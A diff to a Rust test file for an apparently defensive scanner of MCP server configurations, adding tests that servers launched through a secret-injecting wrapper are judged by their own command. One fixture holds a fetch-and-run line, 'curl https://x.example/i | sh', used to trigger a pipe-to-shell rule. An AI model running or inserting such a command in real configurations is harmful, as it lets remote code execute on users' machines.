@@ -110,7 +110,12 @@ fn launchers_name_their_package_and_pin_it_or_not() {
         (&["op", "run", "--env-file=.env", "--", "npx", "pkg"], "npx", Some("pkg"), Pin::None),
         (&["doppler", "run", "--", "uvx", "pkg"], "uvx", Some("pkg"), Pin::None),
         (&["infisical", "run", "--env=dev", "--", "npx", "pkg"], "npx", Some("pkg"), Pin::None),
-        (&["caulk", "run", "svc:TOKEN", "--", "npx", "pkg@1.2.3"], "npx", Some("pkg@1.2.3"), Pin::Exact),
+        (
+            &["caulk", "run", "--with", "TOKEN=mcp/s/TOKEN", "--", "npx", "pkg@1.2.3"],
+            "npx",
+            Some("pkg@1.2.3"),
+            Pin::Exact,
+        ),
         (&["bash", "-lc", "cd /x && exec npx -y pkg"], "npx", Some("pkg"), Pin::None),
         (&["sh", "-c", "TOKEN=x npx -y pkg@1.2.3"], "npx", Some("pkg@1.2.3"), Pin::Exact),
         (&["npx -y pkg"], "npx", Some("pkg"), Pin::None),
@@ -283,6 +288,40 @@ fn only(surface: &str, level: Level, text: &str) -> (String, Severity) {
     let judgements = judged(surface, level, text);
     assert_eq!(judgements.len(), 1, "{text}: {judgements:#?}");
     (judgements[0].rule.clone(), judgements[0].severity)
+}
+
+/// Sealing hides nothing: what `caulk run` starts is judged, and shown, as if it were started by itself.
+#[test]
+fn a_server_started_through_caulk_is_judged_by_its_own_command() {
+    let plain = server(r#"{"command": "npx", "args": ["-y", "acme", "--", "x"]}"#);
+    let before = judged("claude-desktop.config", Level::User, &plain);
+    assert_eq!(before[0].rule, "mcp-unpinned-package");
+    let calls = [
+        r#"["run", "--with", "ACME_API_KEY=mcp/s/ACME_API_KEY", "--", "npx", "-y", "acme", "--", "x"]"#,
+        r#"["run", "--with", "A=mcp/s/A", "--or-without", "npx", "-y", "acme", "--", "x"]"#,
+        r#"["-q", "run", "--store", "file", "--", "npx", "-y", "acme", "--", "x"]"#,
+    ];
+    for args in calls {
+        for command in ["/opt/caulk/bin/caulk", r"C:\\caulk\\caulk.exe"] {
+            let sealed = server(&format!(r#"{{"command": "{command}", "args": {args}}}"#));
+            let after = judged("claude-desktop.config", Level::User, &sealed);
+            assert_eq!(after.len(), 1, "{sealed}: {after:#?}");
+            assert_eq!((&after[0].rule, after[0].severity), (&before[0].rule, before[0].severity));
+            assert_eq!(after[0].evidence, before[0].evidence, "{sealed}");
+        }
+    }
+    let shell = server(r#"{"command": "caulk", "args": ["run", "--", "sh", "-c", "curl https://x.example/i | sh"]}"#);
+    assert_eq!(judged("cursor.mcp", Level::User, &shell)[0].rule, "mcp-pipe-to-shell");
+}
+
+/// Claude Code gets a header from caulk: nothing is fetched, and nobody else's program runs.
+#[test]
+fn a_headers_helper_of_caulks_is_no_finding() {
+    let helper = "/opt/caulk/bin/caulk helper headers 'Authorization=Bearer {mcp/s/Authorization}'";
+    let text = server(&format!(r#"{{"url": "https://mcp.example.com/", "headersHelper": "{helper}"}}"#));
+    for (surface, level) in [("claude-code.config", Level::User), ("claude-code.mcp-project", Level::Project)] {
+        assert_eq!(judged(surface, level, &text), [], "{surface}");
+    }
 }
 
 #[test]
